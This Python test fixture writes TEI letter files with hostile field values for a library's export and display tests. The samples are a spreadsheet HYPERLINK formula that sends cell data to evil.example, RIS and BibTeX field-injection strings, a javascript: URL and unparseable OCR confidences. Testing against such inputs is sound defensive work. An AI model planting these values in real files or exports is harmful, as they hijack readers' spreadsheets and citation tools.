"""TEI files as an attacker or a careless archive would write them, for the tests of issue 16:
each is a document the library must show (200) without serving anything that acts against its
readers."""

from __future__ import annotations

from pathlib import Path

TEMPLATE = """<?xml version="1.0" encoding="UTF-8"?>
<TEI xmlns="http://www.tei-c.org/ns/1.0" xml:id="{doc_id}" xml:lang="en">
  <teiHeader>
    <fileDesc>
      <titleStmt><title type="main">{title}</title><author>{author}</author></titleStmt>
      <publicationStmt>
        <publisher>Primary-source library (digital edition)</publisher>
        <idno type="doc_id">{doc_id}</idno>
        <availability status="free" n="public-domain">
          <licence target="{licence_target}">Public domain</licence>
        </availability>
      </publicationStmt>
      <notesStmt><note type="provenance">Written for a test of issue 16.</note></notesStmt>
      <sourceDesc><bibl xml:id="{doc_id}-bibl"><title>{title}</title></bibl></sourceDesc>
    </fileDesc>
    <profileDesc>
      <creation><date when="1952-10-01">1952</date></creation>
      <langUsage><language ident="{lang}">English</language></langUsage>
      <textClass><keywords><term type="doctype">letter</term></keywords></textClass>
    </profileDesc>
  </teiHeader>
  {facsimile}
  <text xml:lang="en">
    <body>
      <div>
        <p xml:id="{doc_id}-p1">Zanzibarite hostile words about the Kremlin.{note}</p>
      </div>
    </body>
  </text>
</TEI>
"""

SURFACE = """<facsimile><surface xml:id="{doc_id}-s1" n="1">
    <graphic url="facsimiles/{doc_id}/p1.jpg" width="100px" height="100px"/>
    <note type="ocr" cert="{cert}" n="eng">machine-read</note></surface></facsimile>"""

DOCUMENTS = {
    # a spreadsheet formula as a title, another as the author
    "hostile-formula": dict(title='=HYPERLINK("http://evil.example/?"&amp;A1,"open")',
                            author="@SUM(1+1)"),
    # a licence URL that would end the RIS record and start another
    "hostile-ris": dict(licence_target="http://x.example/&#10;ER  - &#10;&#10;TY  - JOUR&#10;"
                                       "TI  - Injected"),
    # a language code that would close its BibTeX field and open another
    "hostile-bib": dict(lang="en}, note = {INJECTED"),
    # a script URL as the licence
    "hostile-js": dict(licence_target="javascript:alert(1)"),
    # OCR confidences no number can be made of
    "hostile-nan": dict(facsimile=SURFACE, cert="nan"),
    "hostile-inf": dict(facsimile=SURFACE, cert="1e400"),
    # a footnote whose reference points nowhere
    "hostile-blank-ref": dict(note='<note type="footnote" n="1"><ref target=" "/></note>'),
}


def write(sources: Path) -> list[str]:
    """Write every hostile document into ``sources``; their ids."""
    for doc_id, fields in DOCUMENTS.items():
        values = dict(title="A letter", author="A. Writer", licence_target="",
                      lang="en", facsimile="", note="", cert="")
        values.update(fields)
        values["facsimile"] = values["facsimile"].format(doc_id=doc_id, cert=values["cert"])
        (sources / f"{doc_id}.xml").write_text(TEMPLATE.format(doc_id=doc_id, **values),
                                               encoding="utf-8")
    return list(DOCUMENTS)
